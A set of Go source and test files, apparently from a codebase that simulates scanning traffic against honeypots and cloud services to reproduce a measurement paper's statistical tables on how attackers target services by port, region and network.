	// Figure 1 needs the telescope-heavy config (two full /16s).
	cfg := testConfig(42, 2021)
	cfg.Deploy.TelescopeSlash24s = 512
	s, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r := s.Figure1()
	if len(r.Panels) != 4 {
		t.Fatalf("Figure 1 has %d panels", len(r.Panels))
	}
	panels := map[uint16]Figure1Panel{}
	for _, p := range r.Panels {
		panels[p.Port] = p
	}
	// (a) Port 22: /16 starts are strongly preferred.
	if b := panels[22].Slash16StartBoost; b < 3 {
		t.Errorf("port-22 /16-start boost = %v, want > 3 (paper: one order of magnitude)", b)
	}
	// (b) Port 445: 255-octet addresses are avoided.
	if ratio := panels[445].Octet255Ratio; ratio > 0.5 {
		t.Errorf("port-445 255-octet ratio = %v, want < 0.5 (paper: 9x avoidance)", ratio)
	}
	// (c) Port 80: 255-octet addresses are avoided, but mildly — the
	// paper's Figure 1c dips are small because research scanners and
	// background radiation sweep port 80 uniformly.
	if ratio := panels[80].Octet255Ratio; ratio >= 1.0 {
		t.Errorf("port-80 255-octet ratio = %v, want < 1.0", ratio)
	}
	// (d) Port 17128: exactly four latched addresses.
	if n := len(panels[17128].TopAddresses); n != 4 {
		t.Errorf("port-17128 top addresses = %d, want 4", n)
	}
	if len(panels[22].Windows) == 0 {
		t.Error("port-22 window series empty")
	}
	if !strings.Contains(r.Render(), "port 17128") {
		t.Error("render missing 17128 panel")
	}
}

func TestTable6Render(t *testing.T) {
	s := sharedStudy(t, 2021)
	out := s.Table6().Render()
	for _, city := range []string{"CA-US", "FRA-DE", "SIN-SG"} {
		if !strings.Contains(out, city) {
			t.Errorf("Table 6 missing city %s", city)
		}
	}
}
