package core

import (
	"fmt"
	"strings"
)

// Table2Cell is one (slice, characteristic) cell of Table 2: the share
// of neighborhoods whose identical services receive significantly
// different traffic, and the average effect size among the
// significantly-different pairs.
type Table2Cell struct {
	Slice                  ProtocolSlice
	Characteristic         Characteristic
	Neighborhoods          int     // neighborhoods with testable pairs (the n)
	DifferentNeighborhoods int     // neighborhoods with ≥1 significant pair
	FractionDifferent      float64 // DifferentNeighborhoods / Neighborhoods
	AvgPhi                 float64 // mean Cramér's V over significant pairs
	AvgMagnitude           string
}

// Table2Result reproduces Table 2 (and Table 12 when run on the 2020
// configuration): attacker discrimination between neighboring
// services.
type Table2Result struct {
	Year  int
	Cells []Table2Cell
}

// neighborhoodSlices lists the (slice, characteristics) groups of
// Table 2.
var neighborhoodSlices = []struct {
	slice ProtocolSlice
	chars []Characteristic
}{
	{SliceSSH22, []Characteristic{CharTopAS, CharFracMalicious, CharTopUsernames, CharTopPasswords}},
	{SliceTelnet23, []Characteristic{CharTopAS, CharFracMalicious, CharTopUsernames, CharTopPasswords}},
	{SliceHTTP80, []Characteristic{CharTopAS, CharFracMalicious, CharTopPayloads}},
	{SliceHTTPAll, []Characteristic{CharTopAS, CharFracMalicious, CharTopPayloads}},
}

// Table2 compares every pair of neighboring GreyNoise honeypots (same
// region, same network) on every §3.3 characteristic.
func (s *Study) Table2() Table2Result {
	res := Table2Result{Year: s.Cfg.Year}
	for _, group := range neighborhoodSlices {
		// Build per-vantage views per region once per slice.
		regionViews := s.greyNoiseRegionViews(group.slice)
		for _, char := range group.chars {
			cell := Table2Cell{Slice: group.slice, Characteristic: char}
			fam := &Family{}
			type pairRef struct {
				region string
				idx    int
			}
			var refs []pairRef
			for region, views := range regionViews {
				for i := 0; i < len(views); i++ {
					for j := i + 1; j < len(views); j++ {
						r, err := Compare(views[i], views[j], char)
						label := fmt.Sprintf("%s #%d vs #%d", region, i, j)
						fam.Add(label, r, err == nil)
						refs = append(refs, pairRef{region, len(fam.Pairs) - 1})
					}
				}
			}
			m := fam.Comparisons()
			diffRegions := map[string]bool{}
			testableRegions := map[string]bool{}
			var phiSum float64
			var phiN int
			for _, ref := range refs {
				p := fam.Pairs[ref.idx]
				if !p.OK {
					continue
				}
				testableRegions[ref.region] = true
				if p.Result.Significant(Alpha, m) {
					diffRegions[ref.region] = true
					phiSum += p.Result.CramersV
					phiN++
				}
			}
			cell.Neighborhoods = len(testableRegions)
			cell.DifferentNeighborhoods = len(diffRegions)
			if cell.Neighborhoods > 0 {
				cell.FractionDifferent = float64(cell.DifferentNeighborhoods) / float64(cell.Neighborhoods)
			}
			if phiN > 0 {
				cell.AvgPhi = phiSum / float64(phiN)
				cell.AvgMagnitude = magnitudeLabel(cell.AvgPhi)
			}
			res.Cells = append(res.Cells, cell)
		}
	}
	return res
}

// greyNoiseRegionViews builds the per-honeypot views of every
// GreyNoise region for one slice, keeping only honeypots with traffic
// in the slice.
func (s *Study) greyNoiseRegionViews(slice ProtocolSlice) map[string][]*View {
	out := map[string][]*View{}
	for _, region := range s.U.Regions() {
		if strings.HasPrefix(region, "stanford:leak") {
			continue
		}
		targets := s.U.Region(region)
		var views []*View
		for _, t := range targets {
			if t.Collector.String() != "greynoise" {
				continue
			}
			v := s.VantageView(t.ID, slice)
			if v.Total > 0 {
				views = append(views, v)
			}
		}
		if len(views) >= 2 {
			out[region] = views
		}
	}
	return out
}

// magnitudeLabel buckets an average φ of a 2×k comparison for display;
// individual pair magnitudes are dof-aware (stats.Magnitude), but the
// table-level average uses the df*=1 scale as the paper's color coding
// does.
func magnitudeLabel(phi float64) string {
	switch {
	case phi >= 0.5:
		return "large"
	case phi >= 0.3:
		return "medium"
	case phi >= 0.1:
		return "small"
	default:
		return "none"
	}
}

// Render formats the result as Table 2's layout.
func (r Table2Result) Render() string {
	title := fmt.Sprintf("Table 2 (%d): attackers target neighboring services differently", r.Year)
	t := newTable(title, "Protocol", "Characteristic", "n", "% Neighborhoods different", "Avg phi")
	for _, c := range r.Cells {
		t.add(c.Slice.String(), c.Characteristic.String(),
			fmt.Sprint(c.Neighborhoods), fmtPct(c.FractionDifferent),
			fmtPhi(c.AvgPhi, c.AvgMagnitude))
	}
	return t.String()
}
