package core

import (
	"fmt"
	"strings"
)

// Table2Cell is one (slice, characteristic) cell of Table 2: the share
// of neighborhoods whose identical services receive significantly
// different traffic, and the average effect size among the
// significantly-different pairs.
type Table2Cell struct {
	Slice                  ProtocolSlice
	Characteristic         Characteristic
	Neighborhoods          int     // neighborhoods with testable pairs (the n)
	DifferentNeighborhoods int     // neighborhoods with ≥1 significant pair
	FractionDifferent      float64 // DifferentNeighborhoods / Neighborhoods
	AvgPhi                 float64 // mean Cramér's V over significant pairs
	AvgMagnitude           string
}

// Table2Result reproduces Table 2 (and Table 12 when run on the 2020
// configuration): attacker discrimination between neighboring
// services.
type Table2Result struct {
	Year  int
	K     int // top-K width the families compared (0 = TopK)
	Cells []Table2Cell
}

// neighborhoodSlices lists the (slice, characteristics) groups of
// Table 2.
var neighborhoodSlices = []struct {
	slice ProtocolSlice
	chars []Characteristic
}{
	{SliceSSH22, []Characteristic{CharTopAS, CharFracMalicious, CharTopUsernames, CharTopPasswords}},
	{SliceTelnet23, []Characteristic{CharTopAS, CharFracMalicious, CharTopUsernames, CharTopPasswords}},
	{SliceHTTP80, []Characteristic{CharTopAS, CharFracMalicious, CharTopPayloads}},
	{SliceHTTPAll, []Characteristic{CharTopAS, CharFracMalicious, CharTopPayloads}},
}

// Table2 compares every pair of neighboring GreyNoise honeypots (same
// region, same network) on every §3.3 characteristic. Each (slice,
// characteristic) family runs through the batched comparison engine
// (family.go) in canonical region order.
func (s *Study) Table2() Table2Result { return s.Table2AtK(TopK) }

// Table2AtK is Table 2 with the top-K width as a parameter — the
// K-axis of the sweep engine. Families are memoized per K, and the
// per-(view, characteristic) ranked summaries are shared across every
// K, so sweeping K re-ranks nothing. Table2AtK(TopK) is exactly
// Table2 (same memo entries).
func (s *Study) Table2AtK(k int) Table2Result {
	res := Table2Result{Year: s.Cfg.Year, K: k}
	for _, group := range neighborhoodSlices {
		nbs := s.greyNoiseNeighborhoods(group.slice)
		pairs, labels, refs := neighborhoodPairs(nbs)
		for _, char := range group.chars {
			cell := Table2Cell{Slice: group.slice, Characteristic: char}
			fr := s.pairwiseFamily("neighborhood", group.slice, char, k, func() famJob {
				return famJob{sides: s.neighborhoodSides(nbs, char), pairs: pairs, labels: labels}
			})
			m := fr.fam.Comparisons()
			diffRegions := map[string]bool{}
			testableRegions := map[string]bool{}
			var phiSum float64
			var phiN int
			for idx, p := range fr.fam.Pairs {
				if !p.OK {
					continue
				}
				testableRegions[refs[idx]] = true
				if p.Result.Significant(Alpha, m) {
					diffRegions[refs[idx]] = true
					phiSum += p.Result.CramersV
					phiN++
				}
			}
			cell.Neighborhoods = len(testableRegions)
			cell.DifferentNeighborhoods = len(diffRegions)
			if cell.Neighborhoods > 0 {
				cell.FractionDifferent = float64(cell.DifferentNeighborhoods) / float64(cell.Neighborhoods)
			}
			if phiN > 0 {
				cell.AvgPhi = phiSum / float64(phiN)
				cell.AvgMagnitude = magnitudeLabel(cell.AvgPhi)
			}
			res.Cells = append(res.Cells, cell)
		}
	}
	return res
}

// neighborhood is one GreyNoise region's per-honeypot views.
type neighborhood struct {
	region string
	views  []*View
}

// greyNoiseNeighborhoods builds the per-honeypot views of every
// GreyNoise region for one slice, keeping only honeypots with traffic
// in the slice and regions with at least one comparable pair, in
// canonical universe region order.
func (s *Study) greyNoiseNeighborhoods(slice ProtocolSlice) []neighborhood {
	var out []neighborhood
	for _, region := range s.U.Regions() {
		if strings.HasPrefix(region, "stanford:leak") {
			continue
		}
		targets := s.U.Region(region)
		var views []*View
		for _, t := range targets {
			if t.Collector.String() != "greynoise" {
				continue
			}
			v := s.VantageView(t.ID, slice)
			if v.Total > 0 {
				views = append(views, v)
			}
		}
		if len(views) >= 2 {
			out = append(out, neighborhood{region, views})
		}
	}
	return out
}

// neighborhoodPairs enumerates every within-region honeypot pair in
// canonical order, returning side-index pairs (into the flattened
// view list), labels, and the owning region per pair.
func neighborhoodPairs(nbs []neighborhood) (pairs [][2]int, labels, refs []string) {
	base := 0
	for _, nb := range nbs {
		for i := 0; i < len(nb.views); i++ {
			for j := i + 1; j < len(nb.views); j++ {
				pairs = append(pairs, [2]int{base + i, base + j})
				labels = append(labels, fmt.Sprintf("%s #%d vs #%d", nb.region, i, j))
				refs = append(refs, nb.region)
			}
		}
		base += len(nb.views)
	}
	return pairs, labels, refs
}

// neighborhoodSides flattens the neighborhoods' views into family
// sides, in the order neighborhoodPairs indexes them.
func (s *Study) neighborhoodSides(nbs []neighborhood, char Characteristic) []famSide {
	var views []*View
	for _, nb := range nbs {
		views = append(views, nb.views...)
	}
	return s.viewSides(views, char)
}

// magnitudeLabel buckets an average φ of a 2×k comparison for display;
// individual pair magnitudes are dof-aware (stats.Magnitude), but the
// table-level average uses the df*=1 scale as the paper's color coding
// does.
func magnitudeLabel(phi float64) string {
	switch {
	case phi >= 0.5:
		return "large"
	case phi >= 0.3:
		return "medium"
	case phi >= 0.1:
		return "small"
	default:
		return "none"
	}
}

// Render formats the result as Table 2's layout.
func (r Table2Result) Render() string {
	title := fmt.Sprintf("Table 2 (%d): attackers target neighboring services differently", r.Year)
	t := newTable(title, "Protocol", "Characteristic", "n", "% Neighborhoods different", "Avg phi")
	for _, c := range r.Cells {
		t.add(c.Slice.String(), labelAtK(c.Characteristic, r.K),
			fmt.Sprint(c.Neighborhoods), fmtPct(c.FractionDifferent),
			fmtPhi(c.AvgPhi, c.AvgMagnitude))
	}
	return t.String()
}
