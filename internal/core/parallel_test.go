package core

import (
	"bytes"
	"runtime"
	"strconv"
	"sync"
	"testing"

	"cloudwatch/internal/netsim"
)

// runTestStudyWorkers runs the scaled-down test study with an explicit
// worker count.
func runTestStudyWorkers(t *testing.T, seed int64, workers int) *Study {
	t.Helper()
	cfg := testConfig(seed, 2021)
	cfg.Workers = workers
	s, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func recordsEqual(a, b netsim.Record) bool {
	if a.Vantage != b.Vantage || !a.T.Equal(b.T) || a.Src != b.Src ||
		a.ASN != b.ASN || a.Port != b.Port || a.Transport != b.Transport ||
		a.Handshake != b.Handshake {
		return false
	}
	if !bytes.Equal(a.Payload, b.Payload) {
		return false
	}
	if len(a.Creds) != len(b.Creds) {
		return false
	}
	for i := range a.Creds {
		if a.Creds[i] != b.Creds[i] {
			return false
		}
	}
	return true
}

// assertStudiesIdentical compares everything the analysis pipeline
// consumes: the full record sequence, the per-vantage indexes, and the
// telescope/GreyNoise counters.
func assertStudiesIdentical(t *testing.T, want, got *Study, label string) {
	t.Helper()
	if want.NumRecords() != got.NumRecords() {
		t.Fatalf("%s: record counts differ: %d vs %d", label, want.NumRecords(), got.NumRecords())
	}
	for i := 0; i < want.NumRecords(); i++ {
		if !recordsEqual(want.RecordAt(i), got.RecordAt(i)) {
			t.Fatalf("%s: record %d differs:\n  want %+v\n  got  %+v",
				label, i, want.RecordAt(i), got.RecordAt(i))
		}
	}

	for vi, tgt := range want.U.Targets() {
		wi, gi := want.byVantage[vi], got.byVantage[vi]
		if len(wi) != len(gi) {
			t.Fatalf("%s: vantage %s index lengths differ: %d vs %d", label, tgt.ID, len(wi), len(gi))
		}
		for j := range wi {
			if wi[j] != gi[j] {
				t.Fatalf("%s: vantage %s index %d = %d, want %d", label, tgt.ID, j, gi[j], wi[j])
			}
		}
	}

	if want.Tel.Packets() != got.Tel.Packets() {
		t.Errorf("%s: telescope packets = %d, want %d", label, got.Tel.Packets(), want.Tel.Packets())
	}
	for _, port := range want.Tel.WatchedPorts() {
		if w, g := want.Tel.UniqueSourceCount(port), got.Tel.UniqueSourceCount(port); w != g {
			t.Errorf("%s: port %d unique srcs = %d, want %d", label, port, g, w)
		}
	}
	wAll, gAll := want.Tel.ASFrequenciesAll(), got.Tel.ASFrequenciesAll()
	if len(wAll) != len(gAll) {
		t.Errorf("%s: telescope AS table sizes differ: %d vs %d", label, len(wAll), len(gAll))
	}
	for k, v := range wAll {
		if gAll[k] != v {
			t.Errorf("%s: telescope AS %q = %v, want %v", label, k, gAll[k], v)
		}
	}

	wSeen, wExp, wVet := want.GN.Stats()
	gSeen, gExp, gVet := got.GN.Stats()
	if wSeen != gSeen || wExp != gExp || wVet != gVet {
		t.Errorf("%s: GreyNoise stats = %d,%d,%d, want %d,%d,%d",
			label, gSeen, gExp, gVet, wSeen, wExp, wVet)
	}
}

// TestStudyParallelDeterministic is the central guarantee of the
// sharded pipeline: the same seed produces byte-identical studies at
// every worker count.
func TestStudyParallelDeterministic(t *testing.T) {
	serial := runTestStudyWorkers(t, 7, 1)
	if serial.NumRecords() == 0 {
		t.Fatal("serial study collected nothing")
	}
	counts := []int{4, runtime.GOMAXPROCS(0)}
	for _, workers := range counts {
		par := runTestStudyWorkers(t, 7, workers)
		assertStudiesIdentical(t, serial, par, "workers="+strconv.Itoa(workers))
	}
}

// TestStudyDefaultWorkersMatchSerial covers the default path
// (Workers=0 → GOMAXPROCS).
func TestStudyDefaultWorkersMatchSerial(t *testing.T) {
	serial := runTestStudyWorkers(t, 11, 1)
	auto := runTestStudyWorkers(t, 11, 0)
	assertStudiesIdentical(t, serial, auto, "workers=auto")
}

// TestStudyMoreWorkersThanActors exercises the clamp when the
// population is smaller than the requested worker count.
func TestStudyMoreWorkersThanActors(t *testing.T) {
	serial := runTestStudyWorkers(t, 3, 1)
	over := runTestStudyWorkers(t, 3, 10_000)
	assertStudiesIdentical(t, serial, over, "workers=10000")
}

// renderAllAnalyses runs every cached analysis path — all tables, the
// figure, and both ablations — and concatenates the rendered output.
func renderAllAnalyses(s *Study) string {
	return s.Table1().Render() + s.Table2().Render() + s.Table3().Render() +
		s.Table4().Render() + s.Table5().Render() + s.Table6().Render() +
		s.Table7().Render() + s.Table8().Render() + s.Table9().Render() +
		s.Table10().Render() + s.Table11().Render() + s.Figure1().Render() +
		s.AblationTopK().Render() + s.AblationMedianFilter().Render()
}

// TestParallelTablesMatchSerial spot-checks that downstream experiment
// drivers see identical inputs: the rendered neighborhood table is the
// same whichever pipeline built the study.
func TestParallelTablesMatchSerial(t *testing.T) {
	serial := runTestStudyWorkers(t, 7, 1)
	par := runTestStudyWorkers(t, 7, 4)
	if w, g := serial.Table2().Render(), par.Table2().Render(); w != g {
		t.Errorf("Table2 differs between worker counts:\nserial:\n%s\nparallel:\n%s", w, g)
	}
}

// TestCachedAnalysesDeterministicAcrossWorkers extends the byte-
// identical guarantee to the cached analysis layer: every table,
// figure, and ablation renders identically at Workers 1, 4, and
// GOMAXPROCS, and re-rendering from the warm cache reproduces the
// first (cold) render exactly.
func TestCachedAnalysesDeterministicAcrossWorkers(t *testing.T) {
	serial := runTestStudyWorkers(t, 7, 1)
	want := renderAllAnalyses(serial)
	if again := renderAllAnalyses(serial); again != want {
		t.Fatal("warm-cache re-render differs from cold render on the same study")
	}
	for _, workers := range []int{4, runtime.GOMAXPROCS(0)} {
		par := runTestStudyWorkers(t, 7, workers)
		if got := renderAllAnalyses(par); got != want {
			t.Fatalf("analyses differ between Workers=1 and Workers=%d", workers)
		}
	}
}

// TestConcurrentViewBuilding hammers the read side from many
// goroutines: VantageView and RegionRecords share the study's verdict
// memo and must be race-free after Run.
func TestConcurrentViewBuilding(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for _, region := range s.U.Regions() {
				s.RegionRecords(region)
				for _, tgt := range s.U.Region(region) {
					s.VantageView(tgt.ID, SliceAnyAll)
				}
			}
		}()
	}
	wg.Wait()
}

// TestRegionRecordsMatchVantageRecords checks the fanned-out gather
// returns exactly the per-vantage record lists.
func TestRegionRecordsMatchVantageRecords(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	for _, region := range s.U.Regions() {
		byID := s.RegionRecords(region)
		targets := s.U.Region(region)
		if len(byID) != len(targets) {
			t.Fatalf("region %s: %d entries, want %d", region, len(byID), len(targets))
		}
		for _, tgt := range targets {
			got, want := byID[tgt.ID], s.VantageRecords(tgt.ID)
			if len(got) != len(want) {
				t.Fatalf("region %s vantage %s: %d records, want %d", region, tgt.ID, len(got), len(want))
			}
			for i := range want {
				if !recordsEqual(got[i], want[i]) {
					t.Fatalf("region %s vantage %s record %d differs", region, tgt.ID, i)
				}
			}
		}
	}
}
