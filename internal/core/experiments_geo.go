package core

import (
	"fmt"
	"strings"

	"cloudwatch/internal/netsim"
)

// geoLabel renders a region's geography as the paper's tables do:
// "US-CA", "AP-SG", "EU-DE", "CA-TOR".
func geoLabel(g netsim.Geo) string {
	switch {
	case g.Country == "US":
		return "US-" + g.Sub
	case g.Continent == "APAC":
		return "AP-" + g.Country
	case g.Continent == "EU":
		return "EU-" + g.Country
	default:
		return g.Continent + "-" + g.Country
	}
}

// Table4Cell is one (provider, slice, characteristic) cell of Table 4:
// the region deviating most from its network siblings.
type Table4Cell struct {
	Provider         string
	Slice            ProtocolSlice
	Characteristic   Characteristic
	MostDiffRegion   string // geo label of the most-different region ("-" if none)
	AvgPhi           float64
	SignificantPairs int
}

// Table4Result reproduces Table 4 (and Table 16 on the 2020 config).
type Table4Result struct {
	Year  int
	K     int // top-K width the families compared (0 = TopK)
	Cells []Table4Cell
}

var table4Axes = []struct {
	slice ProtocolSlice
	chars []Characteristic
}{
	{SliceSSH22, []Characteristic{CharTopAS, CharTopUsernames, CharFracMalicious}},
	{SliceTelnet23, []Characteristic{CharTopAS, CharTopUsernames, CharTopPasswords, CharFracMalicious}},
	{SliceHTTP80, []Characteristic{CharTopAS, CharTopPayloads}},
	{SliceHTTPAll, []Characteristic{CharTopAS, CharTopPayloads, CharFracMalicious}},
}

// Table4 finds, per provider and characteristic, the geographic region
// whose traffic deviates most from the provider's other regions. Each
// provider's pair set is a contiguous slice of the shared same-network
// geography family (geoRegionFamily) — Table 5's pair set — so after
// either table runs, the other's comparisons are cache hits; the
// per-pair chi-squared results are independent of family composition
// (family_test proves batched == naive per pair), and the Bonferroni m
// is re-derived from the provider's own testable pairs, keeping the
// output byte-identical to the per-provider families this replaced.
func (s *Study) Table4() Table4Result { return s.Table4AtK(TopK) }

// Table4AtK is Table 4 with a parameterized top-K width (the sweep
// engine's K axis); Table4AtK(TopK) shares Table4's memo entries.
func (s *Study) Table4AtK(k int) Table4Result {
	res := Table4Result{Year: s.Cfg.Year, K: k}
	for _, provider := range []string{"aws", "google", "linode"} {
		for _, axis := range table4Axes {
			for _, char := range axis.chars {
				pairs, fr := s.geoRegionFamily(axis.slice, char, k)
				var idxs []int
				for idx, p := range pairs {
					if p.provider == provider {
						idxs = append(idxs, idx)
					}
				}
				// Bonferroni m over this provider's testable pairs only.
				m := 0
				for _, idx := range idxs {
					if fr.fam.Pairs[idx].OK {
						m++
					}
				}
				counts := map[string]int{}
				phiSum, phiN := 0.0, 0
				for _, idx := range idxs {
					p := fr.fam.Pairs[idx]
					if !p.OK || !p.Result.Significant(Alpha, m) {
						continue
					}
					counts[pairs[idx].a]++
					counts[pairs[idx].b]++
					phiSum += p.Result.CramersV
					phiN++
				}
				cell := Table4Cell{
					Provider: provider, Slice: axis.slice, Characteristic: char,
					MostDiffRegion: "-", SignificantPairs: phiN,
				}
				best, bestN := "", 0
				for region, n := range counts {
					if n > bestN || (n == bestN && region < best) {
						best, bestN = region, n
					}
				}
				if bestN > 0 {
					cell.MostDiffRegion = geoLabel(s.regionGeo(best))
					cell.AvgPhi = phiSum / float64(phiN)
				}
				res.Cells = append(res.Cells, cell)
			}
		}
	}
	return res
}

// geoRegionFamily returns the memoized same-network geography family
// for (slice, char): every same-provider region pair (geoRegionPairs)
// in canonical order, compared over the GreyNoise median group views.
// Table 4 and Table 5 share its (family, slice, characteristic, K)
// memo entries; each table subsets the pair list and re-derives its
// own Bonferroni m, which keeps both outputs byte-identical to the
// separate families this replaced (per-pair results are independent
// of family composition).
func (s *Study) geoRegionFamily(slice ProtocolSlice, char Characteristic, k int) ([]geoPair, *familyResult) {
	pairs := s.geoRegionPairs()
	fr := s.pairwiseFamily("georegions", slice, char, k, func() famJob {
		regionPairs := make([][2]string, len(pairs))
		for i, p := range pairs {
			regionPairs[i] = [2]string{p.a, p.b}
		}
		return regionPairJob(s, regionPairs, char, func(region string) *View {
			return s.regionGroupView(region, slice)
		})
	})
	return pairs, fr
}

// regionGroupView merges the GreyNoise views of one region with the
// §4.4 median filter. The merged view is memoized per (region, slice)
// — Table 4, Table 5, and the ablations share them — and per-vantage
// view builds fan out across cores on the first request. Callers must
// treat the result as read-only.
func (s *Study) regionGroupView(region string, slice ProtocolSlice) *View {
	return s.views.get(kindRegionGreyNoise, region, slice, func() *View {
		var targets []*netsim.Target
		for _, t := range s.U.Region(region) {
			if t.Collector != netsim.CollectGreyNoise {
				continue
			}
			targets = append(targets, t)
		}
		return GroupView(s.vantageViews(targets, slice))
	})
}

func (s *Study) regionGeo(region string) netsim.Geo {
	targets := s.U.Region(region)
	if len(targets) == 0 {
		return netsim.Geo{}
	}
	return targets[0].Geo
}

// Render formats Table 4.
func (r Table4Result) Render() string {
	title := fmt.Sprintf("Table 4 (%d): geographic regions with most different traffic patterns", r.Year)
	t := newTable(title, "Traffic", "Protocol", "AWS most-dif", "AWS phi", "Google most-dif", "Google phi", "Linode most-dif", "Linode phi")
	type key struct {
		slice ProtocolSlice
		char  Characteristic
	}
	cells := map[key]map[string]Table4Cell{}
	var order []key
	for _, c := range r.Cells {
		k := key{c.Slice, c.Characteristic}
		if cells[k] == nil {
			cells[k] = map[string]Table4Cell{}
			order = append(order, k)
		}
		cells[k][c.Provider] = c
	}
	for _, k := range order {
		row := []string{labelAtK(k.char, r.K), k.slice.String()}
		for _, p := range []string{"aws", "google", "linode"} {
			if c, ok := cells[k][p]; ok {
				row = append(row, c.MostDiffRegion, fmtPhi(c.AvgPhi, magnitudeLabel(c.AvgPhi)))
			} else {
				row = append(row, "-", "-")
			}
		}
		t.add(row...)
	}
	return t.String()
}

// Table5Cell is one (slice, characteristic, geo-group) cell of Table 5:
// the share of same-network region pairs with *similar* traffic.
type Table5Cell struct {
	Slice           ProtocolSlice
	Characteristic  Characteristic
	GeoGroup        string // "US", "EU", "APAC", "Intercontinental"
	Pairs           int
	SimilarFraction float64
}

// Table5Result reproduces Table 5 (and Table 13 on the 2020 config).
type Table5Result struct {
	Year  int
	K     int // top-K width the families compared (0 = TopK)
	Cells []Table5Cell
}

var table5Axes = []struct {
	slice ProtocolSlice
	chars []Characteristic
}{
	{SliceSSH22, []Characteristic{CharTopAS, CharFracMalicious, CharTopUsernames, CharTopPasswords}},
	{SliceTelnet23, []Characteristic{CharTopAS, CharFracMalicious, CharTopUsernames, CharTopPasswords}},
	{SliceHTTP80, []Characteristic{CharTopAS, CharFracMalicious, CharTopPayloads}},
	{SliceHTTPAll, []Characteristic{CharTopAS, CharFracMalicious, CharTopPayloads}},
}

// geoPair is one same-network region pair of the shared geography
// family: its provider, and its Table 5 geography group ("" for pairs
// Table 5 excludes — same non-grouped continent, e.g. both NA outside
// the US).
type geoPair struct {
	a, b     string
	provider string
	group    string
}

// geoRegionPairs enumerates every same-network pair of regions in
// canonical order (provider order, universe region order), annotated
// with the Table 5 geography group: both-US, both-EU, both-APAC,
// intercontinental, or "" when Table 5 drops the pair. Table 4 reads
// per-provider subsets, Table 5 the grouped subset, of the one shared
// comparison family built over this list. The list is derived from
// the immutable universe, so it is memoized per study (both tables
// consult it once per slice × characteristic). Callers must treat it
// as read-only.
func (s *Study) geoRegionPairs() []geoPair {
	s.geoPairsOnce.Do(func() { s.geoPairs = s.buildGeoRegionPairs() })
	return s.geoPairs
}

func (s *Study) buildGeoRegionPairs() []geoPair {
	var pairs []geoPair
	for _, provider := range []string{"aws", "google", "linode", "azure"} {
		var regions []string
		for _, region := range s.U.Regions() {
			if strings.HasPrefix(region, provider+":") {
				regions = append(regions, region)
			}
		}
		for i := 0; i < len(regions); i++ {
			for j := i + 1; j < len(regions); j++ {
				ga, gb := s.regionGeo(regions[i]), s.regionGeo(regions[j])
				group := ""
				switch {
				case ga.Country == "US" && gb.Country == "US":
					group = "US"
				case ga.Continent == "EU" && gb.Continent == "EU":
					group = "EU"
				case ga.Continent == "APAC" && gb.Continent == "APAC":
					group = "APAC"
				case ga.Continent != gb.Continent:
					group = "Intercontinental"
				}
				pairs = append(pairs, geoPair{regions[i], regions[j], provider, group})
			}
		}
	}
	return pairs
}

// Table5 compares every same-network pair of regions, grouped by
// geography, each (slice, characteristic) as one batched family —
// the shared geoRegionFamily Table 4 subsets.
func (s *Study) Table5() Table5Result { return s.Table5AtK(TopK) }

// Table5AtK is Table 5 with a parameterized top-K width (the sweep
// engine's K axis); Table5AtK(TopK) shares Table5's memo entries.
func (s *Study) Table5AtK(k int) Table5Result {
	res := Table5Result{Year: s.Cfg.Year, K: k}
	for _, axis := range table5Axes {
		for _, char := range axis.chars {
			pairs, fr := s.geoRegionFamily(axis.slice, char, k)
			// Bonferroni m over Table 5's own (geography-grouped)
			// testable pairs; the shared family also carries pairs only
			// Table 4 reads.
			m := 0
			for idx, pr := range fr.fam.Pairs {
				if pr.OK && pairs[idx].group != "" {
					m++
				}
			}
			similar := map[string]int{}
			total := map[string]int{}
			for idx, pr := range fr.fam.Pairs {
				if !pr.OK || pairs[idx].group == "" {
					continue
				}
				total[pairs[idx].group]++
				if !pr.Result.Significant(Alpha, m) {
					similar[pairs[idx].group]++
				}
			}
			for _, g := range []string{"US", "EU", "APAC", "Intercontinental"} {
				cell := Table5Cell{Slice: axis.slice, Characteristic: char, GeoGroup: g, Pairs: total[g]}
				if total[g] > 0 {
					cell.SimilarFraction = float64(similar[g]) / float64(total[g])
				}
				res.Cells = append(res.Cells, cell)
			}
		}
	}
	return res
}

// Render formats Table 5.
func (r Table5Result) Render() string {
	title := fmt.Sprintf("Table 5 (%d): %% similar pairs of regions in same network, by geography", r.Year)
	t := newTable(title, "Protocol", "Characteristic", "US", "EU", "APAC", "Intercontinental")
	type key struct {
		slice ProtocolSlice
		char  Characteristic
	}
	cells := map[key]map[string]Table5Cell{}
	var order []key
	for _, c := range r.Cells {
		k := key{c.Slice, c.Characteristic}
		if cells[k] == nil {
			cells[k] = map[string]Table5Cell{}
			order = append(order, k)
		}
		cells[k][c.GeoGroup] = c
	}
	for _, k := range order {
		row := []string{k.slice.String(), labelAtK(k.char, r.K)}
		for _, g := range []string{"US", "EU", "APAC", "Intercontinental"} {
			c := cells[k][g]
			if c.Pairs == 0 {
				row = append(row, "-")
			} else {
				row = append(row, fmt.Sprintf("%s (n=%d)", fmtPct(c.SimilarFraction), c.Pairs))
			}
		}
		t.add(row...)
	}
	return t.String()
}
