package core

import (
	"bytes"
	"testing"

	"cloudwatch/internal/pcap"
)

func TestExportPCAPRoundTrip(t *testing.T) {
	s := sharedStudy(t, 2021)
	var buf bytes.Buffer
	n, err := s.ExportPCAP(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != s.NumRecords() {
		t.Fatalf("exported %d packets, want %d", n, s.NumRecords())
	}

	packets, err := pcap.ReadAll(&buf)
	if err != nil {
		t.Fatalf("re-reading export: %v", err)
	}
	if len(packets) != n {
		t.Fatalf("read back %d packets, want %d", len(packets), n)
	}
	// Timestamp order.
	for i := 1; i < len(packets); i++ {
		if packets[i].Time.Before(packets[i-1].Time) {
			t.Fatalf("packet %d out of order", i)
		}
	}
	// Every packet's destination must be a study vantage IP.
	for i := 0; i < len(packets); i += 997 {
		if _, ok := s.U.ByIP(packets[i].Dst); !ok {
			t.Errorf("packet %d destination %v is not a vantage", i, packets[i].Dst)
		}
	}
	// Credential-only records must carry the cleartext exchange.
	foundCreds := false
	for _, p := range packets[:min(5000, len(packets))] {
		if (p.DstPort == 23 || p.DstPort == 2323) && bytes.Contains(p.Payload, []byte("\r\n")) {
			foundCreds = true
			break
		}
